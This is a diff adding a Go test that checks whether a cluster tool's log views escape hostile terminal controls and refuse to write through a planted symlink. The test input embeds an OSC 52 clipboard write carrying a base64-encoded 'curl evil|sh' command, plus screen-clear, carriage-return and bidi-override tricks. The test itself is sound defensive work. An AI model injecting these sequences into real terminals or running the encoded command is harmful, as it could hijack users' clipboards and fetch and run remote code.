@@ -269,3 +269,59 @@ func TestLogsFollow(t *testing.T) {
 		t.Errorf("a line was printed %d times:\n%s", n, out.String())
 	}
 }
+
+// TestLogsEscaped checks that clstr logs, --follow and --html show a
+// node's output with its controls escaped, as a failure does: an OSC 52
+// clipboard write, a screen clear, BEL, CR and a bidi override that a
+// script sent as a body and the node logged.
+func TestLogsEscaped(t *testing.T) {
+	hostile := "got \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\rforged \u202egnp.exe \u009b31m"
+	dir := t.TempDir()
+	logs := filepath.Join(dir, logDir)
+	os.MkdirAll(logs, 0o755)
+	os.WriteFile(filepath.Join(logs, "events.log"), []byte(eventsLog), 0o644)
+	os.WriteFile(filepath.Join(logs, "n1.log"), []byte("2026-11-25T07:05:00.150000000Z stdout "+hostile+"\n"), 0o644)
+	t.Chdir(dir)
+	raw := func(what, out string) {
+		t.Helper()
+		if strings.ContainsAny(out, "\x1b\x07\r\u202e\u009b") {
+			t.Errorf("%s shows raw controls:\n%q", what, out)
+		}
+		if !strings.Contains(out, `\x1b]52;c;`) {
+			t.Errorf("%s does not show the escaped text:\n%q", what, out)
+		}
+	}
+
+	var out, errs bytes.Buffer
+	if st := run(context.Background(), []string{"clstr", "logs"}, &out, &errs); st != 0 {
+		t.Fatalf("clstr logs: exit %d: %s", st, errs.String())
+	}
+	raw("clstr logs", out.String())
+
+	var follow syncBuffer
+	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
+	defer cancel()
+	run(ctx, []string{"clstr", "logs", "--follow"}, &follow, &errs)
+	raw("clstr logs --follow", follow.String())
+
+	// A link planted at the page's name is replaced, not written through.
+	victim := filepath.Join(t.TempDir(), "victim")
+	os.WriteFile(victim, []byte("precious"), 0o644)
+	os.Symlink(victim, filepath.Join(dir, "logs.html"))
+	out.Reset()
+	if st := run(context.Background(), []string{"clstr", "logs", "--html", "logs.html"}, &out, &errs); st != 0 {
+		t.Fatalf("clstr logs --html: exit %d: %s", st, errs.String())
+	}
+	page, err := os.ReadFile(filepath.Join(dir, "logs.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(victim); string(b) != "precious" {
+		t.Errorf("clstr logs --html wrote through a link: %q", b)
+	}
+	// The page holds the text as JSON, which encodes controls; what the
+	// page shows is the escaped form.
+	if !strings.Contains(string(page), `\\x1b]52;c;`) || strings.Contains(string(page), `\u001b`) {
+		t.Errorf("the logs page does not show the node's controls escaped")
+	}
+}
